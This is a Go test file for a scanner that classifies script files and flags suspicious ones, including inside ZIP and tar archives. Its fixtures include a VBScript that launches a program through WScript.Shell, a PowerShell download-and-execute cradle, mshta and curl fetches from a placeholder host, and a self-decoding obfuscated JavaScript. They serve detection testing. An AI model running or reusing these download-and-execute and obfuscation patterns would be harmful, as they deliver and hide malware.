package inspect

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"sekisho/internal/finding"
	"sekisho/internal/fixture"
)

const (
	vbs     = "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc.exe\"\r\n"
	encoded = "#@~^DgAAAA==\\ko$K6,JCmV^GJqAQAAA==^#~@" // MsgBox "Hallo"
	hta     = "<html><head><hta:application id=a></head><script language=vbscript>x = 1</script></html>"
	wsf     = "<job><script language=\"JScript\">WScript.Echo('inert');</script></job>"
)

func TestScripts(t *testing.T) {
	for _, tt := range []struct {
		name string
		b    []byte
		want []string
	}{
		{"a.vbs", []byte(vbs), []string{"script.file", "script.suspicious"}},
		{"a.vbs", []byte("MsgBox 1"), []string{"script.file"}},
		{"a.js", []byte("var a = 1"), []string{"script.file"}},
		{"a.js", []byte("\x89PNG\r\n\x1A\n"), []string{"script.file"}},
		{"a.js", []byte("\x00\x01\x02\x03"), []string{"script.file"}},
		{"a.vbs", wideOf(vbs, true), []string{"script.file", "script.suspicious"}},
		{"a.vbs", wideOf(vbs, false), []string{"script.file", "script.suspicious"}},
		{"a.vbe", []byte(encoded), []string{"script.file"}},
		{"a.dat", []byte(encoded), []string{"script.file"}},
		{"a.wsf", []byte(wsf), []string{"script.file"}},
		{"a.dat", []byte(wsf), []string{"script.file"}},
		{"a.xml", []byte("<?xml version=\"1.0\"?><package>" + wsf + "</package>"), []string{"script.file"}},
		{"a.hta", []byte(hta), []string{"script.file"}},
		{"a.html", []byte(hta), []string{"script.file"}},
		{"a.html", []byte("<html><script language=vbscript>" + vbs + "</script></html>"), []string{"script.file", "script.suspicious"}},
		{"a.bat", []byte("@echo off\r\nmshta http://example.test/a"), []string{"script.file", "script.suspicious"}},
		{"a", []byte("@echo off\r\ndir"), []string{"script.file"}},
		{"a.dat", []byte(vbs), []string{"script.file", "script.suspicious"}},
		{"a.ps1", []byte("IEX (New-Object Net.WebClient).DownloadString('http://example.test/')"), []string{"script.file", "script.suspicious"}},
		{"a.reg", []byte("Windows Registry Editor Version 5.00"), []string{"script.file"}},
		{"a.py", []byte("print(1)"), []string{"script.file"}},
	} {
		kind, r := scanNamed(t, tt.name, tt.b)
		if diff := cmp.Diff(tt.want, lines(r)); diff != "" || kind != KindScript {
			t.Errorf("%s, %.30q: %s %s", tt.name, tt.b, kind, diff)
		}
	}
}

func TestTextThatIsNoScript(t *testing.T) {
	for name, text := range map[string]string{
		"a.txt": vbs, "b.md": "```\n@echo off\n```\n" + vbs, "c.sh": "#!/bin/sh\necho 1\n", "d.html": "<html><script>document.title = 1</script></html>", "e.c": "int main(void) { return 0; }",
		"f": "Use CreateObject to make an object, and WScript.Shell to run it.", "g.xml": "<?xml version=\"1.0\"?><jobs><job>script</job></jobs>", "h.log": "@echo off\n",
		"i.xml": "<?xml version=\"1.0\"?><pipeline><job>a</job><script>echo 1</script></pipeline>",
	} {
		if _, r := scanNamed(t, name, []byte(text)); len(r.Findings) > 0 {
			t.Errorf("%s: %v", name, r.Findings)
		}
	}
}

// sealedJS calls by words that a function of its own decodes.
const sealedJS = `function d(s){var r="",i=0;for(;i<s.length;i+=2)r+=String.fromCharCode(parseInt(s.substr(i,2),16)^7);return r}` +
	`var o=new this[d("46647376716275")](d("505464756e7773"));o[d("5572696b6f")](d("646e6b642e627f62"));var x=d("6f7373777a3d2828")`

// below puts entries in a folder.
func below(list []fixture.ZIPEntry) []fixture.ZIPEntry {
	list = slices.Clone(list)
	for i := range list {
		list[i].Name = "files/" + list[i].Name
	}
	return list
}

func TestSourcesInArchives(t *testing.T) {
	app := entry("web/app.js", []byte("console.log(1)\n"))
	tree := []fixture.ZIPEntry{entry("Makefile", []byte("all:\n")), entry("src/a.c", []byte("int a;\n")), entry("README.md", []byte("# a\n"))}
	for _, tt := range []struct {
		name    string
		entries []fixture.ZIPEntry
		want    []string
	}{
		{"a tree", append(tree, app, entry("a.py", []byte("print(1)")), entry("build.bat", []byte("@echo off\r\ncl a.c")), entry("i.ps1", []byte("Start-Process a"))), nil},
		{"between documents", []fixture.ZIPEntry{entry("a.pdf", []byte("%PDF-1.4")), entry("readme.txt", []byte("x")), app}, []string{"script.file web/app.js"}},
		{"alone", []fixture.ZIPEntry{app}, []string{"script.file web/app.js"}},
		{"a tree with one that starts programs", append(tree, app, entry("run.vbs", []byte(vbs))), []string{"script.file run.vbs", "script.suspicious run.vbs"}},
		{"a tree with one of another sort", append(tree, entry("open.hta", []byte(hta))), []string{"script.file open.hta"}},
		{"a tree with an encoded one", append(tree, entry("a.js", []byte(encoded))), []string{"script.file a.js"}},
		{"a saved page", []fixture.ZIPEntry{entry("a.html", []byte("<html>")), entry("a_files/a.js", []byte("f(1)"))}, nil},
		{"a folder without its page", []fixture.ZIPEntry{entry("b.html", []byte("<html>")), entry("a_files/a.js", []byte("f(1)"))}, []string{"script.file a_files/a.js"}},
		{"before a tree, fetching", append(below(tree), entry("open.bat", []byte("curl -o a.exe http://example.test/a"))), []string{"script.file open.bat", "script.suspicious open.bat"}},
		{"before a tree, doing nothing", append(below(tree), entry("open.bat", []byte("cl a.c"))), nil},
		{"in a tree, fetching", append(tree, entry("open.bat", []byte("curl -o a.exe http://example.test/a"))), nil},
		{"a tree with one that decodes its words", append(tree, entry("a.js", []byte(sealedJS))), []string{"script.file a.js", "script.suspicious a.js"}},
		{"a tree with an alphabet", append(tree, entry("md5.js", []byte(`var hex="0123456789abcdef";function f(s){return hex.charAt(s.charCodeAt(0)&15)}`))), nil},
		{"locked sources", []fixture.ZIPEntry{{Name: "a.c", Data: []byte("x"), Password: "p"}, {Name: "b.c", Data: []byte("x"), Password: "p"}, {Name: "c.c", Data: []byte("x"), Password: "p"}, app},
			[]string{"zip.encrypted"}},
	} {
		_, r := scanNamed(t, "a.zip", zipOf(tt.entries...))
		if diff := cmp.Diff(tt.want, lines(r)); diff != "" {
			t.Errorf("%s: %s", tt.name, diff)
		}
	}
	if _, r := scanNamed(t, "a.tar.gz", gz(t, "a.tar", tarOf(t, "a.js", []byte("var a")))); detailOf(r, finding.ScriptFile) == "" {
		t.Errorf("alone in a tape archive: %v", r.Findings)
	}
}

func TestScriptsNamedAsStreams(t *testing.T) {
	for _, name := range []string{"a.js::$DATA", "a.JS:b", "a.vbs:c.txt"} {
		if _, r := scanNamed(t, "a.zip", zipOf(entry(name, []byte("f(1)\n")))); detailOf(r, finding.ScriptFile) == "" {
			t.Errorf("%s: %v", name, r.Findings)
		}
	}
	if _, r := scanNamed(t, "RE: a.txt", []byte("f(1)\n")); len(r.Findings) > 0 {
		t.Errorf("%v", r.Findings)
	}
}

func TestDetailsOfScripts(t *testing.T) {
	_, r := scanNamed(t, "a.vbe", []byte(encoded))
	if got := detailOf(r, finding.ScriptFile); got != `by its name, ".vbe", encoded` {
		t.Error(got)
	}
	if _, r = scanNamed(t, "a", []byte(strings.Repeat("\r\n", 3)+"@ECHO OFF\r\n")); detailOf(r, finding.ScriptFile) != "by its content" {
		t.Errorf("%v", r.Findings)
	}
}
